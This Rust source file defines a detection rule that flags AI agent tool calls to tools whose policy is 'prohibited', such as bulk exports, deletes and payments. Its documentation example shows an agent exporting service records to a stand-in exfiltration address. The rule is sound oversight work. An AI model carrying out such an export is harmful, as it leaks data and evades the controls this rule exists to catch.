//! TL003 prohibited-tool-executed: a tool whose effective policy is `prohibited` executed.

use super::input::UnknownPolicies;
use super::{Coverage, Finding, Rule, RuleDocs, RuleInput, RuleOutcome, Severity};
use crate::policy::{PolicyClass, PolicySource};

pub struct ProhibitedToolExecuted;

static DOCS: RuleDocs = RuleDocs {
    what: "A tool whose effective policy is prohibited executed. The effective policy is the \
           policy file's entry; without one, the class the tool's MCP annotations imply with the \
           spec's pessimistic defaults (destructive, or listed without annotations -> prohibited).",
    why: "The host registry says this tool must never run from this agent (bulk exports, deletes, \
          payments). If it ran, either the registry is not enforced or the agent found a way \
          around it; either way a human should look now.",
    example: "execute_tool export_service_records (policy prohibited, tags [exfiltration]) in \
              conversation conv-9, arguments {\"recipient\":\"records-backup@exfil.example\"}.",
    fix: "Enforce the registry in the host before dispatching a tool call (refuse prohibited \
          tools, do not list them to the model), or correct the policy file if the tool is in \
          fact allowed.",
};

impl Rule for ProhibitedToolExecuted {
    fn code(&self) -> &'static str {
        "TL003"
    }
    fn name(&self) -> &'static str {
        "prohibited-tool-executed"
    }
    fn severity(&self) -> Severity {
        Severity::Critical
    }
    fn docs(&self) -> &'static RuleDocs {
        &DOCS
    }

    fn check(&self, input: &RuleInput) -> RuleOutcome {
        let model = input.model;
        let calls: Vec<_> = input.tool_calls().collect();
        let mut cov = Coverage::new(calls.len());
        let mut findings = Vec::new();
        let mut unknown = UnknownPolicies::default();
        for call in &calls {
            let tool = call.tool.as_deref().unwrap_or("?");
            let Some(eff) = unknown.effective(input, tool) else {
                continue;
            };
            if eff.class != PolicyClass::Prohibited || call.input_required {
                continue;
            }
            let source = match eff.source {
                PolicySource::Registry => "the policy file",
                PolicySource::Annotations => "its MCP annotations (destructive)",
                PolicySource::Defaults => "MCP defaults (listed without annotations)",
            };
            findings.push(Finding::for_call(
                self,
                model,
                call,
                format!("{tool} is prohibited (per {source}) but executed"),
            ));
        }
        unknown.report(&mut cov);
        RuleOutcome::new(findings, cov)
    }
}
